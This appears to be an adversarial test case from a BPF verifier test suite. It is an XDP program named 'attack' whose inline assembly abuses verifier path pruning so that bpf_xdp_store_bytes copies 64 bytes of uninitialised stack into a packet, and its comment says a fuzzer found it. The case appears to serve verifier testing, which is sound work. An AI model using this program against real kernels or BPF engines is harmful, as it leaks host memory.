// @class pruning
// @inputs 128:00000000000000000000000000000000 128:000000000000000007
/*
 * A join where r5 is a number on one path and the stack address r10 - 128
 * (never written) on the other, the branch's own register being alike on
 * both; r5 then goes to bpf_xdp_store_bytes as the 64 bytes to copy into
 * the packet. A verifier that prunes the pointer's path against the
 * number's never sees the helper read unwritten stack, and an engine that
 * trusts it copies out what the host left there. Found by the proof-aimed
 * fuzzer. Bytes 8..15 of the packet pick the path (zero: the pointer).
 */
#include "adversarial.h"

SEC("xdp")
__naked int attack(struct xdp_md *ctx)
{
	asm volatile (
	"r6 = r1;"
	LOAD_PACKET
	"r4 = r2;"
	"r4 += 16;"
	"if r4 > r3 goto 9f;"
	"r4 = *(u64 *)(r2 + 8);"
	"r1 = 0;"
	"*(u64 *)(r10 - 8) = r1;"
	"*(u64 *)(r10 - 64) = r1;"
	"if w4 == 0 goto 3f;"
	"r5 = r4;"
	"goto 4f;"
"3:"
	"r5 = r10;"
	"r5 += -128;"
"4:"
	"r3 = r5;"
	"r1 = r6;"
	"r2 = 0;"
	"r4 = 64;"
	"call %[bpf_xdp_store_bytes];"
"9:"
	"r0 = 0;"
	"exit;"
	:
	: __imm(bpf_xdp_store_bytes)
	: __clobber_all);
}
